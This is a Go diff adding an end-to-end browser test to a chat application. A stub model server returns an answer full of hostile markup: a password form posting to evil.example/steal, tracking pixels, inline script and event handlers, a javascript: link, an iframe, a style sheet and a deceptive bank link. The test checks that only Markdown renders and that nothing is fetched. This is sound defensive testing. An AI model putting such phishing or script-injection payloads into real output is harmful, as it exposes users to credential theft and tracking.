@@ -2,12 +2,18 @@ package main
 
 import (
 	"context"
+	"encoding/json"
+	"fmt"
+	"io"
 	"net/http"
 	"net/http/httptest"
+	"slices"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
+	"github.com/chromedp/cdproto/network"
 	"github.com/chromedp/chromedp"
 
 	"github.com/turngate/turngate/gateway"
@@ -327,4 +333,135 @@ func TestChatCreatesAndInvites(t *testing.T) {
 		t.Fatal(err)
 	}
 	page.screenshot("chat-invited")
+}
+
+// hostileAnswer is model output that tries everything markup can: a style
+// sheet, a form asking for a password, an input, images from elsewhere
+// (raw and Markdown), a script, an iframe, a javascript: link, a raw link
+// with a handler — around the Markdown the app renders, and an external
+// link whose text hides where it leads.
+const hostileAnswer = "Here is **bold** text, `code` and a list:\n\n- one\n- two\n\n" +
+	"<style>body { background: rgb(255, 0, 0) !important } .answer { display: none }</style>\n\n" +
+	"<form action=\"https://evil.example/steal\" method=\"post\"><input name=\"password\" type=\"password\" placeholder=\"Password\"><button>Log in</button></form>\n\n" +
+	"<img src=\"https://tracker.example/pixel.png\" onerror=\"window.pwned = 'img'\">\n\n" +
+	"<script>window.pwned = 'script'</script>\n\n" +
+	"<iframe src=\"https://evil.example/frame\"></iframe>\n\n" +
+	"![pixel](https://tracker.example/md.png)\n\n" +
+	"[click me](javascript:window.pwned='link') and <a href=\"https://evil.example\" onclick=\"window.pwned='click'\">raw link</a>\n\n" +
+	"- [ ] a task\n\n" +
+	"Read [your bank](https://evil.example/login?next=1) for details."
+
+// hostileModel answers every request with hostileAnswer.
+func hostileModel(w http.ResponseWriter, r *http.Request) {
+	io.ReadAll(r.Body)
+	w.Header().Set("Content-Type", "text/event-stream")
+	content, _ := json.Marshal(map[string]string{"role": "assistant", "content": hostileAnswer})
+	fmt.Fprintf(w, "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":%s,\"finish_reason\":null}]}\n\n", content)
+	fmt.Fprint(w, "data: {\"id\":\"c1\",\"object\":\"chat.completion.chunk\",\"created\":1,\"model\":\"m\",\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n")
+}
+
+// renderedAnswer is what the page made of an answer.
+type renderedAnswer struct {
+	Elements  []string          `json:"elements"`  // every element's tag in the answer, lowercased
+	Handlers  []string          `json:"handlers"`  // on* attributes anywhere in the answer
+	Classes   []string          `json:"classes"`   // class attributes the page did not set
+	Hrefs     []string          `json:"hrefs"`     // every link's href
+	External  map[string]string `json:"external"`  // the external link's rel, target, title and the text beside it
+	Text      string            `json:"text"`      // the answer's text
+	Pwned     string            `json:"pwned"`     // window.pwned, set by any script that ran
+	BodyColor string            `json:"bodyColor"` // body's computed background
+}
+
+// TestChatRendersOnlyMarkdown: an answer full of markup renders as the
+// Markdown the app supports — bold, code, lists, links — and nothing
+// else: no style, form, input, image, script or iframe element, no
+// handler, no javascript: link, nothing fetched from the image hosts, raw
+// HTML shown as text. The external link opens in a new tab with
+// rel="noopener noreferrer", its address as its title and its host shown
+// beside its text.
+func TestChatRendersOnlyMarkdown(t *testing.T) {
+	model := httptest.NewServer(http.HandlerFunc(hostileModel))
+	defer model.Close()
+	h := newHarness(t, func(c *Config) {
+		c.OpenAI = gateway.OpenAIConfig{BaseURL: model.URL, APIKey: "sk-local", Model: "m"}
+		c.AgentRoute = "openai"
+	})
+	a := h.client(t, alice)
+	private := rooms(t, a)["Alice's notes"].ID
+	b := newBrowser(t, 2*time.Minute)
+	ctx, cancel := context.WithTimeout(b.ctx, 90*time.Second)
+	defer cancel()
+	page := openChat(t, b, ctx, h.base, "/#room="+private)
+	var fetched []string
+	var mu sync.Mutex
+	if err := chromedp.Listen(page.ctx, func(ev any) {
+		if e, ok := ev.(*network.EventRequestWillBeSent); ok && !strings.HasPrefix(e.Request.URL, h.base) {
+			mu.Lock()
+			fetched = append(fetched, e.Request.URL)
+			mu.Unlock()
+		}
+	}); err != nil {
+		t.Fatal(err)
+	}
+	page.waitConnection("Live")
+	question := "show me everything"
+	page.send(question)
+	done := page.turnWith(question, "the answer is complete", func(t pageTurn) bool { return t.Answered })
+	got, err := chromedp.Run(page.ctx, chromedp.Evaluate[renderedAnswer](`(() => {
+  const answer = [...document.querySelectorAll('article')].find((a) => a.dataset.turnId === `+jsString(done.ID)+`).querySelector('.answer');
+  const all = [...answer.querySelectorAll('*')];
+  const ext = answer.querySelector('a[href^="https://evil.example/login"]');
+  return {
+    elements: all.map((e) => e.localName),
+    handlers: all.flatMap((e) => [...e.attributes].filter((at) => at.name.startsWith('on')).map((at) => e.localName + '.' + at.name)),
+    classes: all.filter((e) => e.className && !['external', 'link-host', 'cite'].includes(e.className)).map((e) => e.localName + '.' + e.className),
+    hrefs: [...answer.querySelectorAll('a')].map((l) => l.getAttribute('href')),
+    external: ext ? { rel: ext.rel, target: ext.target, title: ext.title, beside: ext.nextSibling?.textContent ?? '' } : null,
+    text: answer.innerText,
+    pwned: String(window.pwned ?? ''),
+    bodyColor: getComputedStyle(document.body).backgroundColor,
+  };
+})()`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, tag := range got.Elements {
+		switch tag {
+		case "style", "form", "input", "button", "img", "script", "iframe", "textarea", "select", "link", "meta", "svg", "object", "embed":
+			t.Errorf("the answer holds a <%s> element: %v", tag, got.Elements)
+		}
+	}
+	for _, want := range []string{"strong", "code", "li", "a"} {
+		if !slices.Contains(got.Elements, want) {
+			t.Errorf("the answer lost its Markdown: no <%s> in %v", want, got.Elements)
+		}
+	}
+	if len(got.Handlers) > 0 || len(got.Classes) > 0 || got.Pwned != "" {
+		t.Errorf("handlers %v, classes %v, script ran %q", got.Handlers, got.Classes, got.Pwned)
+	}
+	for _, href := range got.Hrefs {
+		if !strings.HasPrefix(href, "https://") && !strings.HasPrefix(href, "#") {
+			t.Errorf("a link to %q", href)
+		}
+	}
+	if got.External == nil {
+		t.Fatalf("the external link is gone: links %v", got.Hrefs)
+	}
+	if e := got.External; e["rel"] != "noopener noreferrer" || e["target"] != "_blank" || e["title"] != "https://evil.example/login?next=1" || !strings.Contains(e["beside"], "evil.example") {
+		t.Errorf("the external link: %v; want rel=noopener noreferrer, a new tab, its address as title and its host beside it", e)
+	}
+	if !strings.Contains(got.Text, "<form") || !strings.Contains(got.Text, "<script>") {
+		t.Errorf("raw HTML is not shown as text: %q", got.Text)
+	}
+	if got.BodyColor == "rgb(255, 0, 0)" {
+		t.Errorf("the answer's style sheet applied: body is %s", got.BodyColor)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	for _, u := range fetched {
+		if strings.Contains(u, "tracker.example") || strings.Contains(u, "evil.example") {
+			t.Errorf("the page fetched %s", u)
+		}
+	}
+	page.screenshot("chat-hostile-answer")
 }
